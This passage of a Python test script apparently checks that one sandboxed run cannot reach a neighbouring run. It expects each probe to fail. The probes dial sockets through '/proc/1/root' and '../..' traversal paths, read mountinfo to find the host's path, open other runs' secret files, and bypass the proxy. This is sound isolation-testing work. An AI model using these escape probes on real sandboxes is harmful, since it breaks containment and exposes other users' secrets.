            print(byte, end="", flush=True)
        print(flush=True)
    raise_it = subprocess.run(["python3", "-c", "import sys; raise ValueError(open(sys.argv[1]).read())", path], cwd="/tmp")
    attempt("may fail with it in the message", lambda: need(raise_it.returncode))


# -- another run

def other_run():
    section("another run's way out")
    theirs = {}
    attempt("may meet another run", lambda: theirs.update(json.loads(line("line.drill.test", "wait")[len("250 "):])))
    root = theirs.get("root", "/nowhere")
    for base in (root, "/proc/1/root" + root, "/run/countersign/.." + root, "/workspace/../../.." + root):
        for name in ("egress.sock", "control.sock"):
            attempt("no socket of it at %s/%s" % (base.replace(root, "…"), name), lambda: dial(socket.AF_UNIX, socket.SOCK_STREAM, base + "/" + name))
    attempt("no socket of any run beside its own", beside)
    name = "neighbour.drill.test:%d" % LINE
    attempt("no host of it", lambda: refused(proxied(connect(name)), 403, NOT_LISTED))
    attempt("no host of it with no proxy setting", lambda: ended(plain("neighbour.drill.test", LINE, b"hello never/neighbour\n")))
    attempt("no secret of it", lambda: open("/run/secret/drill-other"))
    attempt("no uid that is shared", lambda: need(theirs.get("uid", os.getuid()) == os.getuid()))
    attempt("no authority that is shared", lambda: need(theirs.get("ca", authority()) == authority()))
    attempt("no address of it", lambda: dial(socket.AF_INET, socket.SOCK_STREAM, (theirs.get("address", "127.64.0.99"), 4445)))
    attempt("may let it go", lambda: need(line("line.drill.test", "done") == "250 done"))


def beside():
    root = own_root()
    here = os.path.basename(os.path.dirname(root))
    state = os.path.dirname(os.path.dirname(root))
    need([p for p in glob.glob(state + "/*/s/*.sock") + glob.glob("/run/countersign/../../*/s/*.sock") if here not in p])


def own_root():
    """The host's path of this run's sockets, which the mount table gives away."""
    for fields in map(str.split, open("/proc/self/mountinfo")):
        if fields[4] == "/run/countersign":
            return fields[3]
    return "/nowhere"


def authority():
    with open(os.path.expanduser("~/.countersign/ca.pem")) as f:
        return f.read()


def neighbour():
    section("another run's way out")
    me = {"root": own_root(), "uid": os.getuid(), "ca": authority(), "address": socket.gethostbyname("neighbour.drill.test")}
    listening = socket.create_server(("0.0.0.0", 4445))
    attempt("no host of the run beside it", lambda: refused(proxied(connect("listed.drill.test:%d" % HTTP)), 403, NOT_LISTED))
    attempt("no gateway of the run beside it", lambda: refused(plain("api.internal", 80, request("api.internal", "/v1/never/neighbour")), 403, NOT_LISTED))
    attempt("no credential of the run beside it", lambda: echoed(handshake("upstream.drill.test", TLS, "upstream.drill.test", insecure(), request("upstream.drill.test:%d" % TLS, "/v1/echo"))))
    attempt("no secret of the run beside it", lambda: open("/run/secret/drill-file"))
    attempt("may stay until that run has tried", lambda: need(line("neighbour.drill.test", "here " + json.dumps(me)) == "250 here"))
    listening.close()


def way_out():
    show()
    # The other run waits: what it is needed for comes first.
    for part in (other_run, gives, hosts, addresses, names, malformed, protocols, rules, budgets, lookups, redirects, download, control, credentials, secret_file):
        part()


if __name__ == "__main__":
    main({"way-out": way_out, "neighbour": neighbour})
